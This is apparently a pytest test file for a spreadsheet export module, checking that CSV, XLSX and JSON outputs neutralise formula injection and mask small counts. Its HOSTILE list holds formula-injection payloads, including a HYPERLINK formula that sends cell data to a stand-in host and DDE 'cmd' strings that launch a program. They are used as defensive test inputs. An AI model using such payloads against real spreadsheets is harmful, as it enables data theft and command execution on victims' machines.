"""Files that are taken away: safe in a spreadsheet, right in a program, silent about small groups."""

import csv
import io
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from companion.impact.questions.hiding import Count
from companion.impact.sheets import FORMULA, KINDS, About, Named, Table, harmless, write

HOSTILE = (
    "=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd",
    "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "\u2212" + "1", "\x00=1+1", "=",
)  # fmt: skip
ABOUT = [About(Named("what", "File"), "Who came", "impact")]


def tables(text: str) -> list[Table]:
    heads = (Named("workshop", text), Named("people", "People"), Named("left", "Left"))
    rows = (
        (Named("w1", text), Count(-3), 1.5),
        (Named("w2", "b"), Count(None, "small"), 0),
        (Named("w3", "c"), Count(None, "beside"), None),
    )
    return [Table(Named("by-workshop", text), heads, rows)]


def in_csv(raw: bytes) -> list[list[str]]:
    assert raw.startswith(b"\xef\xbb\xbf")
    return [*csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""))]


def in_xlsx(raw: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(raw))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_in_a_name_is_not_run_by_a_spreadsheet(text: str) -> None:
    """Formula injection in exported spreadsheets."""
    about = [About(Named("area", text), text, text)]
    for row in in_csv(write("csv", about, tables(text))):
        assert not [cell for cell in row if cell.lstrip().startswith(FORMULA) and cell != "-3"]
    for cell in in_xlsx(write("xlsx", about, tables(text))):
        assert cell.data_type != "f"
        assert not isinstance(cell.value, str) or not cell.value.lstrip().startswith(FORMULA)


@given(st.text())
def test_no_text_begins_like_a_formula_and_what_begins_otherwise_stays(text: str) -> None:
    safe = harmless(text)
    assert not safe.lstrip().startswith(FORMULA)
    if text.isprintable() and not text.lstrip().startswith(FORMULA):
        assert safe == text


def test_numbers_are_numbers_and_hidden_ones_are_marks() -> None:
    lines = in_csv(write("csv", ABOUT, tables("a")))
    assert lines == [
        ["File", "Who came", "", ""],
        ["a", "a", "People", "-3"],
        ["a", "a", "Left", "1.5"],
        ["a", "b", "People", "<5"],
        ["a", "b", "Left", "0"],
        ["a", "c", "People", "·"],
    ]
    sheet = load_workbook(io.BytesIO(write("xlsx", ABOUT, tables("a")))).worksheets[1]
    cells = {cell.coordinate: cell for row in sheet.iter_rows() for cell in row}
    assert (cells["B2"].value, cells["B2"].data_type) == (-3, "n")
    assert (cells["C2"].value, cells["B3"].value, cells["B4"].value) == (1.5, "<5", "·")


def test_programs_find_the_same_names_in_every_language() -> None:
    told = json.loads(write("json", ABOUT, tables("任何")))
    assert told["about"] == {"what": "impact"}
    assert told["tables"]["by-workshop"] == [
        {"workshop": "w1", "people": -3, "left": 1.5},
        {"workshop": "w2", "people": "<5", "left": 0},
        {"workshop": "w3", "people": "hidden", "left": None},
    ]


def test_sheets_of_one_long_strange_name_are_all_there() -> None:
    name = Named("x", "[History]: people/by*month? " * 3)
    book = load_workbook(io.BytesIO(write("xlsx", ABOUT, [Table(name, (), ())] * 12)))
    assert len({sheet.title.casefold() for sheet in book}) == 13
    assert all(len(sheet.title) <= 31 for sheet in book)


@pytest.mark.parametrize("kind", KINDS)
def test_letters_that_xml_does_not_know_break_no_file(kind: str) -> None:
    assert write(kind, ABOUT, tables("a\x00\x01\x0b\ufffe\ud800b".encode(errors="replace").decode()))
